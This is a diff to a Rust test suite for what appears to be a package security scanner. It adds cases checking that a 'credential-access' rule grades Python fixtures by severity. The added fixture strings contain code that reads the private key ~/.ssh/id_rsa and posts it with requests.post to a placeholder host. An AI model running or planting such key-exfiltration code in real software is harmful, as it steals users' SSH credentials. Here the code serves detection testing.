@@ -1688,6 +1688,19 @@ fn severity_follows_capability_and_reach() {
     assert_fires(&all, "credential-access", "tools/__init__.py", 7, "warning");
     assert_eq!(code, Some(0));
 
+    // a path in a constant of a chained assignment, posted by a function that names either
+    // name: an error, called or not; a function that names neither: a warning
+    for name in ["KEYS", "DEFAULT_KEYS"] {
+        let constant = format!("import os\nimport requests\n\nDEFAULT_KEYS = KEYS = \"~/.ssh/id_rsa\"\n\n\ndef push():\n    requests.post(\"https://example.invalid/u\", data=open(os.path.expanduser({name})).read())\n");
+        let (code, all) = scan_installed(&[("tools/sync.py", &constant)]);
+        assert_fires(&all, "credential-access", "tools/sync.py", 4, "error");
+        assert_eq!(code, Some(1), "{name}");
+    }
+    let unused = "import os\nimport requests\n\nKEYS = \"~/.ssh/id_rsa\"\n\n\ndef push(data):\n    requests.post(\"https://example.invalid/u\", data=data)\n";
+    let (code, all) = scan_installed(&[("tools/sync.py", unused)]);
+    assert_fires(&all, "credential-access", "tools/sync.py", 4, "warning");
+    assert_eq!(code, Some(0));
+
     // an SSH client that loads known_hosts in one method and connects in another (paramiko)
     let client = "import os\nimport socket\n\n\nclass SSHClient:\n    def load_system_host_keys(self):\n        self.known = os.path.expanduser(\"~/.ssh/known_hosts\")\n\n    def connect(self, host, port=22):\n        self.sock = socket.create_connection((host, port))\n";
     let (code, all) = scan_installed(&[("sshlib/client.py", client)]);
